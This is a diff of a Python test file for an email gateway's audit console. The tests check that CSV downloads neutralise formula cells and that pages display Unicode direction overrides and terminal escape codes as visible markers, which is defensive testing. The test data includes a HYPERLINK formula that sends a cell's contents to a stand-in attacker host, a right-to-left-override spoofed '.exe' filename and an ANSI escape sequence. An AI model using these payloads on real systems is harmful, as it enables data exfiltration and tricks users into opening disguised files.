@@ -26,7 +26,15 @@ from console_support import (
 from sqlalchemy import text
 from test_console_access import console_events, queue_state
 
-from gateway.audit import AuditKeys, AuditQuery, AuditTrail, EventType, verify
+from gateway.audit import (
+    AuditAttachment,
+    AuditKeys,
+    AuditQuery,
+    AuditRecord,
+    AuditTrail,
+    EventType,
+    verify,
+)
 from gateway.queue import Writer
 
 
@@ -124,13 +132,8 @@ def test_download_csv_and_json_are_audited(console: Console) -> None:
     assert exported[0]["filters"] == {"sender": "staff*"} and exported[0]["user"] == "alice"
 
 
-def test_a_downloaded_csv_cell_never_starts_a_formula(console: Console) -> None:
-    """A purpose typed by staff and the recipient's +44 telephone number:
-    Excel would read either as a formula (CSV injection; an error for the
-    number).  The CSV holds them as text; the JSON download as recorded."""
-    rec = record("REC-FORMULA", T0 + timedelta(minutes=5), sender="dana@council.example",
-                 purpose='=HYPERLINK("https://evil.example/?"&A2,"Open")')
-    rec = replace(rec, recipients=(replace(rec.recipients[0], telephone="+44 1632 960003"),))
+def _append(console: Console, rec: AuditRecord) -> None:
+    """One more record in the console's database, as the gateway writes it."""
 
     async def append(engine: Any) -> None:
         writer = Writer(engine)
@@ -142,6 +145,17 @@ def test_a_downloaded_csv_cell_never_starts_a_formula(console: Console) -> None:
             await writer.stop()
 
     console.run(append)
+
+
+def test_a_downloaded_csv_cell_never_starts_a_formula(console: Console) -> None:
+    """A purpose typed by staff and the recipient's +44 telephone number:
+    Excel would read either as a formula (CSV injection; an error for the
+    number).  The CSV holds them as text; the JSON download as recorded."""
+    rec = record("REC-FORMULA", T0 + timedelta(minutes=5), sender="dana@council.example",
+                 purpose='=HYPERLINK("https://evil.example/?"&A2,"Open")')
+    rec = replace(rec, recipients=(replace(rec.recipients[0], telephone="+44 1632 960003"),))
+
+    _append(console, rec)
     client = signed_in(console, "alice")
     try:
         as_csv = client.get("/audit/download?format=csv&sender=dana@council.example")
@@ -155,6 +169,31 @@ def test_a_downloaded_csv_cell_never_starts_a_formula(console: Console) -> None:
     (document,) = [json.loads(line) for line in as_json.text.splitlines()]
     assert document["purpose"] == rec.purpose
     assert document["recipients"][0]["telephone"] == "+44 1632 960003"
+
+
+def test_pages_name_the_characters_that_would_reorder_or_hide_text(console: Console) -> None:
+    """A right-to-left override makes "invoice<RLO>fdp.exe" read
+    "invoiceexe.pdf" in the browser; controls from an encoded-word subject
+    vanish.  The record's page and the search page name them."""
+    rec = replace(
+        record("REC-SPOOF", T0 + timedelta(minutes=6), sender="erin@council.example"),
+        subject="Minutes\x1b[2J\u202e",
+        attachments=(AuditAttachment("invoice\u202efdp.exe", "application/octet-stream",
+                                     "none", False),),
+        recipients=(replace(record("x", T0).recipients[0], name="Dr \u202eRhys"),),
+    )
+    _append(console, rec)
+    client = signed_in(console, "alice")
+    try:
+        page = client.get("/audit/records/REC-SPOOF").text
+        found = client.get("/audit?sender=erin@council.example").text
+    finally:
+        client.__exit__(None, None, None)
+    assert "invoice&lt;U+202E&gt;fdp.exe" in page
+    assert "Minutes&lt;U+001B&gt;[2J&lt;U+202E&gt;" in page
+    assert "Dr &lt;U+202E&gt;Rhys" in page
+    assert "\u202e" not in page and "\x1b" not in page
+    assert ids_on(found) == ["REC-SPOOF"]
 
 
 # -- one record ------------------------------------------------------------------------------
